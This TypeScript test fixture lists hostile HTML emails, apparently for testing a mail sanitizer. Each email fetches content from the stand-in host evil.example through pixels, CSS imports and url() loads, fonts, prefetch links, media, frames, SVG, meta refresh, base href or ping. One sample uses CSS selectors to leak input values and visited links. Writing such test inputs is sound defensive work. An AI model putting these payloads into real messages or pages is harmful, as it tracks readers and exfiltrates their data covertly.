import { type HostileMessage, html } from './hostile-message.ts';

const EVIL = 'https://evil.example';

/** Mails that want to know that they were opened. */
export const REMOTE: readonly HostileMessage[] = [
  html(
    'a pixel',
    `<img src="${EVIL}/p.gif" width=1 height=1 alt="pixel"><img src="//evil.example/q.gif" style="display:none">`,
  ),
  html(
    'pictures by many names',
    `<picture><source srcset="${EVIL}/a.webp 2x"><img srcset="${EVIL}/b.png 1x" src=${EVIL}/c.png loading=eager alt="A cat"></picture><image src=${EVIL}/d.png><input type=image src=${EVIL}/e.png>`,
  ),
  html(
    'a style sheet that imports',
    `<style>@import url(${EVIL}/a.css);@import "${EVIL}/b.css" layer(x);</style><link rel=stylesheet href=${EVIL}/c.css>`,
  ),
  html(
    'styles that load',
    `<div style="background:url(${EVIL}/a.png);list-style:url('${EVIL}/b.png');cursor:url(${EVIL}/c.cur),auto;content:url(${EVIL}/d);border-image:url(${EVIL}/e)">styled</div>`,
  ),
  html(
    'fonts',
    `<style>@font-face{font-family:x;src:url(${EVIL}/x.woff2)}*{font-family:x}</style><font face=x>x</font>`,
  ),
  html(
    'styles that tell what is there',
    `<style>input[value^=a]{background:url(${EVIL}/a)}a:visited{background:url(${EVIL}/v)}@media print{p{background:url(${EVIL}/p)}}</style>`,
  ),
  html(
    'links that fetch ahead',
    `<link rel=prefetch href=${EVIL}/a><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=${EVIL}><link rel=preload as=image href=${EVIL}/b><link rel=prerender href=${EVIL}/c><link rel=modulepreload href=${EVIL}/d.js>`,
  ),
  html(
    'links that describe',
    `<link rel=icon href=${EVIL}/i.ico><link rel=manifest href=${EVIL}/m.json><link rel=import href=${EVIL}/i.html><link rel="apple-touch-icon" href=${EVIL}/t.png>`,
  ),
  html(
    'media',
    `<video poster=${EVIL}/p.jpg src=${EVIL}/v.mp4 autoplay preload=auto><track src=${EVIL}/t.vtt default></video><audio src=${EVIL}/a.mp3 autoplay></audio><bgsound src=${EVIL}/b.wav>`,
  ),
  html(
    'backgrounds',
    `<body background=${EVIL}/a.png><table background=${EVIL}/b.png><tr><td background=${EVIL}/c.png>cell</table>`,
  ),
  html(
    'frames',
    `<iframe src=${EVIL}/f loading=eager></iframe><frame src=${EVIL}/g><portal src=${EVIL}/h></portal><fencedframe></fencedframe>`,
  ),
  html(
    'objects',
    `<object data=${EVIL}/o type=image/svg+xml></object><embed src=${EVIL}/e.pdf><applet archive=${EVIL}/a.jar codebase=${EVIL}></applet>`,
  ),
  html(
    'SVG that loads',
    `<svg><image href=${EVIL}/a.png /><use href="${EVIL}/b.svg#x"/><filter><feImage href=${EVIL}/c.png /></filter><style>@import url(${EVIL}/d.css)</style></svg>`,
  ),
  html('a refresh', `<meta http-equiv=refresh content="0; url=${EVIL}/"><meta http-equiv=refresh content="0">`),
  html('a base for all links', `<base href="${EVIL}/" target=_top><a href="login">log in</a><img src=relative.png>`),
  html(
    'a link that pings',
    `<a href="https://a.example/" ping="${EVIL}/ping" download target=_self rel=opener>a link</a>`,
  ),
  html(
    'a DOCTYPE, a manifest and a profile',
    `<!DOCTYPE html SYSTEM "${EVIL}/x.dtd"><html manifest=${EVIL}/m.appcache xmlns="${EVIL}"><head profile=${EVIL}/p>`,
  ),
];
